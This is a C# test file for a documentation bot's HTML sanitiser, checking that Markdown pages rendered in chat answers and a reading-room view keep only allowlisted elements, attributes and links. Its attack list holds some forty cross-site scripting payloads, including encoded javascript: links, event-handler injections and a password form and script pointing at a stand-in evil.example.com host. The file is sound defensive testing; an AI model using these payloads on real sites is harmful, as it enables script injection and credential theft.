using System.Xml.Linq;
using EnablementBot.Tests.Support;

namespace EnablementBot.Tests.Channels.Web;

/// <summary>Hostile documentation, shown by the running server in an answer and in the reading room.</summary>
[TestClass]
public sealed class SafeHtmlTests
{
    /// <summary>What may stand in HTML that came out of a document; anything else is a hole.</summary>
    private static readonly string[] Elements =
    [
        "html", "article", "div", "section", "p", "h1", "h2", "h3", "h4", "h5", "h6", "ul", "ol", "li", "pre", "code", "em", "strong", "a", "span", "blockquote", "table", "thead", "tbody", "tr", "th", "td",
        "br", "hr", "del", "details", "summary", "button", "input",
    ];

    private static readonly string[] Attributes =
        ["href", "target", "rel", "class", "id", "data-kind", "data-action", "type", "checked", "disabled", "aria-label", "aria-pressed", "aria-hidden", "role", "start"];

    private static KnowledgeFolder _folder = null!;
    private static BotHost _bot = null!;

    private static IEnumerable<object[]> Attacks =>
    [
        ["script", "<script>alert(1)</script>"],
        ["script in a paragraph", "before <script src=//evil.example.com/x.js></script> after"],
        ["upper case", "<ScRiPt>alert(1)</sCrIpT>"],
        ["onerror", "<img src=x onerror=alert(1)>"],
        ["svg", "<svg/onload=alert(1)>"],
        ["iframe", "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>"],
        ["style", "<style>*{display:none}</style>"],
        ["form", "<form action=https://evil.example.com/><input name=password></form>"],
        ["comment", "<!-- --><img src=x onerror=alert(1)> -->"],
        ["base", "<base href=\"https://evil.example.com/\">"],
        ["javascript link", "[click](javascript:alert(1))"],
        ["javascript link in capitals", "[click](JaVaScRiPt:alert(1))"],
        ["javascript link with entities", "[click](java&#115;cript&colon;alert(1))"],
        ["javascript link with a tab", "[click](java&#9;script:alert(1))"],
        ["javascript link with a newline", "[click](<java&NewLine;script:alert(1)>)"],
        ["javascript link after a control character", "[click](<&#1;javascript:alert(1)>)"],
        ["vbscript link", "[click](vbscript:msgbox(1))"],
        ["data link", "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"],
        ["file link", "[click](file:///etc/passwd)"],
        ["protocol-relative link", "[click](//evil.example.com/steal)"],
        ["backslash link", @"[click](\\\\evil.example.com/steal)"],
        ["reference link", "[click][evil]\n\n[evil]: javascript:alert(1) \"title\""],
        ["shortcut reference", "[evil2]\n\n[evil2]: data:text/html,<script>alert(1)</script>"],
        ["autolink", "<javascript:alert(1)>"],
        ["data autolink", "<data:text/html,alert(1)>"],
        ["picture", "![pixel](https://evil.example.com/pixel.png)"],
        ["data picture", "![pixel](data:image/svg+xml;base64,PHN2Zy8+)"],
        ["reference picture", "![pixel][p]\n\n[p]: https://evil.example.com/pixel.png"],
        ["picture in a link", "[![pixel](https://evil.example.com/pixel.png)](javascript:alert(1))"],
        ["link title", "[click](https://good.example.com/x \"\\\" onmouseover=alert(1) x=\\\"\")"],
        ["attribute break in a link", "[click](https://good.example.com/\"onmouseover=alert(1))"],
        ["code fence info", "```js\" onmouseover=\"alert(1)\nlet a;\n```"],
        ["code that closes itself", "`</code><script>alert(1)</script>`"],
        ["alert kind", "> [!NOTE\" onmouseover=\"alert(1)]\n> text"],
        ["table cell", "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [click](javascript:alert(1)) |"],
        ["aligned table", "| a | b |\n|:-:|--:|\n| one | two |"],
        ["list item", "- [x] <script>alert(1)</script>\n- [click](javascript:alert(1))"],
        ["generic attributes", "[click](https://good.example.com/){onclick=alert(1)}"],
        ["entity text", "&lt;script&gt;alert(1)&lt;/script&gt;"],
    ];

    [ClassInitialize]
    public static async Task StartAsync(TestContext context)
    {
        _folder = KnowledgeFolder.Create();
        foreach ((int i, object[] attack) in Attacks.Index())
        {
            _folder.Write($"trap{i}.md", $"""
                ---
                title: Trap number {i} <script>alert(1)</script>
                owner: "<img src=x onerror=alert(1)>"
                ---
                # Trap number {i} <script>alert(1)</script>

                ## Disarm{i} the contraption{i} <img src=x onerror=alert(1)>

                Disarm{i} the contraption{i} gently, see [the handbook](https://good.example.com/handbook?a=1&b=2).

                {attack[1]}
                """);
        }

        _bot = await BotHost.StartAsync(_folder);
    }

    [ClassCleanup]
    public static async Task StopAsync()
    {
        await _bot.DisposeAsync();
        _folder.Dispose();
    }

    [TestMethod]
    [DynamicData(nameof(Attacks))]
    public async Task Hostile_document_is_harmless_in_an_answer(string name, string markdown)
    {
        int number = Attacks.Select(attack => (string)attack[0]).ToList().IndexOf(name);
        using WebChat chat = new(_bot);
        XElement answer = await chat.AskAsync($"How do I disarm{number} the contraption{number}?");

        Assert.Contains($"Disarm{number} the contraption{number} gently", answer.Value, $"The page must be what is answered with: {markdown}");
        VerifyHarmless(answer);
    }

    [TestMethod]
    [DynamicData(nameof(Attacks))]
    public async Task Hostile_document_is_harmless_in_the_reading_room(string name, string markdown)
    {
        int number = Attacks.Select(attack => (string)attack[0]).ToList().IndexOf(name);
        string page = await _bot.Http.GetStringAsync(new Uri($"/docs/platform/trap{number}.md", UriKind.Relative));
        Assert.DoesNotContain("<script>alert", page, markdown);
        Assert.AreEqual(1, page.Split("<script").Length - 1, "The page's own script and no other.");

        XElement article = Html.Article(page);
        Assert.Contains($"Disarm{number} the contraption{number} gently", article.Value);
        VerifyHarmless(article);
    }

    private static void VerifyHarmless(XElement html)
    {
        foreach (XElement element in html.DescendantsAndSelf())
        {
            Assert.Contains(element.Name.LocalName, Elements, element.ToString());
            foreach (XAttribute attribute in element.Attributes()) Assert.Contains(attribute.Name.LocalName, Attributes, element.ToString());
            if (element.Name == "input") Assert.AreEqual("disabled", (string?)element.Attribute("disabled"), element.ToString());
        }

        foreach (string link in html.Links())
        {
            Uri uri = new(_bot.Address, link);
            Assert.IsTrue(uri.Scheme is "http" or "https", link);
            Assert.IsTrue(uri.Host is "good.example.com" || uri.Authority == _bot.Address.Authority, link);
        }

        Assert.Contains("https://good.example.com/handbook?a=1&b=2", html.Links(), "A good link survives.");
        Assert.IsTrue(html.Descendants("a").Where(link => new Uri(_bot.Address, link.Attribute("href")!.Value).Host == "good.example.com").All(link => link.Attribute("rel")!.Value.Contains("noopener", StringComparison.Ordinal)));
    }
}
